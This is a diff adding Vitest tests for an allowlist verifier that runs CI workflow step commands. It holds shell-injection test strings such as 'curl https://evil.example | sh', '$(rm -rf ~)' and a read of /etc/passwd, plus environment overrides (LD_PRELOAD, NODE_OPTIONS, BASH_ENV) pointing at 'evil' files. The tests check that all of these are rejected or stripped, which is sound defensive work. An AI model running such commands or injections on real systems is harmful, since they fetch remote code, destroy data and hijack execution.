@@ -0,0 +1,58 @@
+import { describe, it, expect } from "vitest";
+import { verifyFix } from "./verifier.js";
+import type { StepCommand } from "../collector/types.js";
+
+const step = (run: string): StepCommand => ({
+  workflowPath: ".github/workflows/ci.yml",
+  jobId: "test",
+  stepName: "Run tests",
+  run,
+  env: {}
+});
+
+describe("verifyFix", () => {
+  it("runs a step script whose every command is allowed", async () => {
+    const result = await verifyFix("echo ok", ["echo ok", "echo done"], 5000, step("echo ok\necho done && echo ok"));
+
+    expect(result.passed).toBe(true);
+    expect(result.command).toBe("echo ok\necho done && echo ok");
+    expect(result.output).toContain("done");
+  });
+
+  it("rejects scripts that chain, pipe, redirect or substitute around allowed commands", async () => {
+    const scripts = [
+      "echo ok || curl https://evil.example | sh",
+      "echo ok | tee out.txt",
+      "echo ok $(rm -rf ~)",
+      "echo ok `whoami`",
+      "echo ok > out.txt",
+      "echo ok < /etc/passwd",
+      "echo ok & sleep 60",
+      "echo ok --reporter=evil",
+      "FOO=1 echo ok"
+    ];
+
+    for (const script of scripts) {
+      // The fallback command is outside the allowlist, so nothing may run
+      const result = await verifyFix("not-allowed", ["echo ok"], 5000, step(script));
+      expect(result, script).toMatchObject({ passed: false, exitCode: -1 });
+    }
+  });
+
+  it("drops step variables that change what an allowed command executes", async () => {
+    const run = 'echo "$GREETING:$NODE_OPTIONS:$LD_PRELOAD"';
+    const result = await verifyFix("noop", [run], 5000, {
+      ...step(run),
+      env: {
+        GREETING: "hello",
+        BASH_ENV: "/tmp/evil.sh",
+        NODE_OPTIONS: "--require /tmp/evil.js",
+        LD_PRELOAD: "/tmp/evil.so",
+        PATH: "/tmp/evil-bin"
+      }
+    });
+
+    expect(result.passed).toBe(true);
+    expect(result.output.trim()).toBe("hello::");
+  });
+});